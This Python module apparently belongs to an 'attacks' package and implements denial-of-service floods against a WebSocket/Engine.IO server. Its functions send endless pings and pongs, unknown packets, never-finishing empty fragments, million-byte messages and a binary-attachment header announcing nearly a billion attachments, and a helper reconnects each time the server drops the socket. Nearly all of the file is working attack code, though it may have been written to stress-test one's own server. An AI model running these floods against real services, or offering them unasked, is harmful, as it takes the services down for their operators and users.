"""Attacks with WebSocket frames and Engine.IO packets: without pause, large, fragmented, with attachments."""

from collections.abc import Callable, Iterable, Iterator

from attacks.wire import (
    BINARY,
    CONTINUATION,
    LARGE_FRAMES,
    PING,
    SMALL_FRAMES,
    TEXT,
    Target,
    again_and_again,
    frame,
)

LARGE = 1_000_000
ATTACHMENTS = 999_999_999


def pongs_of_engineio(target: Target) -> None:
    _flood(target, lambda: again_and_again(frame("3")))


def pings_of_engineio(target: Target) -> None:
    _flood(target, lambda: again_and_again(frame("2")))


def pings_of_websocket(target: Target) -> None:
    _flood(target, lambda: again_and_again(frame(b"", PING)))


def unknown_packets(target: Target) -> None:
    """`6` means nothing when a client sends it."""
    _flood(target, lambda: again_and_again(frame("6")))


def unknown_messages(target: Target) -> None:
    _flood(target, lambda: again_and_again(frame('42["nonsense",1]')))


def empty_fragments(target: Target) -> None:
    """Send a message of empty fragments that never ends."""

    def frames() -> Iterator[bytes]:
        yield frame("4", TEXT, final=False)
        yield from again_and_again(frame(b"", CONTINUATION, final=False))

    _flood(target, frames, 3 * SMALL_FRAMES)


def large_messages(target: Target) -> None:
    large = frame('42["nonsense","' + "a" * LARGE + '"]')
    _flood(target, lambda: again_and_again(large), LARGE_FRAMES)


def attachments(target: Target) -> None:
    """Announce binary attachments without end, and send some."""
    large = frame(b"a" * LARGE, BINARY)

    def frames() -> Iterator[bytes]:
        yield frame(f'45{ATTACHMENTS}-["join_department",{{"_placeholder":true,"num":0}}]')
        yield from again_and_again(large)

    _flood(target, frames, LARGE_FRAMES)


def _flood(target: Target, frames: Callable[[], Iterable[bytes]], bytes_per_s: int = SMALL_FRAMES) -> None:
    """Send frames on one WebSocket, and on another one as soon as the server ends it."""

    def attack() -> None:
        with target.websocket() as tcp:
            target.flood(tcp, frames(), bytes_per_s)

    target.persist(attack)
